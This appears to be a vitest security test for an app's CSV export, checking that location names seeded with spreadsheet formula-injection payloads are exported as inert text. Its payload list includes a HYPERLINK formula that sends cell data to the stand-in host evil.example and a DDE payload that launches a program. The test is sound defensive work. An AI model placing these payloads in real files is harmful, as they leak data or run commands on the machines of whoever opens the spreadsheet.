/**
 * Attack: spreadsheet formula injection through an export. Whoever can name a key location (an
 * import, a careless admin) names it `=HYPERLINK(…)`; the coverage report opened in Excel or WPS
 * would run it. Every CSV export goes through csv.ts, which turns such cells into text.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../../helpers/app.ts';
import { seedCounty } from '../../helpers/seed.ts';
import { signIn } from '../../helpers/auth.ts';
import { smallCounty } from '../../fixtures/small-county.ts';
import { client, FakeClock, json, sh } from '../coverage/helpers.ts';
import { csvCell } from '../../../server/src/csv.ts';

const T0 = sh(2026, 3, 10, 9);
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

describe('CSV exports and formula injection', () => {
  const clock = new FakeClock(T0 + 3_600_000);
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp({ clock, coverageTickMs: 0 });
    const county = smallCounty();
    county.locations = county.locations.map((l, i) => (l.category === 'station' || l.category === 'school' ? { ...l, name: PAYLOADS[i]! } : l));
    await seedCounty(t.app, county);
    const admin = client(t, await signIn(t, 'admin'));
    await json(await admin.post('/api/coverage/periods', { id: 'fair', name: '=1+1', kind: 'event', start: '2026-03-10T09:00', end: '2026-03-10T12:00' }));
    await json(await admin.post('/api/coverage/rules', { periodId: 'fair', categories: ['station', 'school'], maxGapMinutes: 60 }));
  });
  afterAll(async () => t?.stop());

  it('exports a key location named like a formula as text in the coverage report CSV', async () => {
    const dispatcher = client(t, await signIn(t, 'dispatcher'));
    const res = await dispatcher.get('/api/coverage/report?periodId=fair&format=csv');
    expect(res.status).toBe(200);
    const [, ...rows] = (await res.text()).replace(/^\uFEFF/, '').split('\r\n').filter(Boolean);
    expect(rows.map((r) => r.split(',')[0])).toEqual(['L-1', 'L-3']);
    // Quoted where the cell holds a comma or a quote, and always starting with ' inside.
    expect(rows[0]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击查看"")"`);
    expect(rows[1]).toMatch(/^L-3,'-2\+3,school,/);
  });

  it.each(PAYLOADS)('neutralises a text cell starting with a formula character: %j', (payload) => {
    const cell = csvCell(payload);
    expect(cell.replace(/^"/, '').startsWith("'")).toBe(true);
  });

  it('leaves plain text and numbers (negative ones too) as they are', () => {
    expect(['沭阳汽车站', 'L-1', 'a=b'].map(csvCell)).toEqual(['沭阳汽车站', 'L-1', 'a=b']);
    expect([-3, 0, 91.6].map(csvCell)).toEqual(['-3', '0', '91.6']);
    expect(csvCell(null)).toBe('');
  });
});
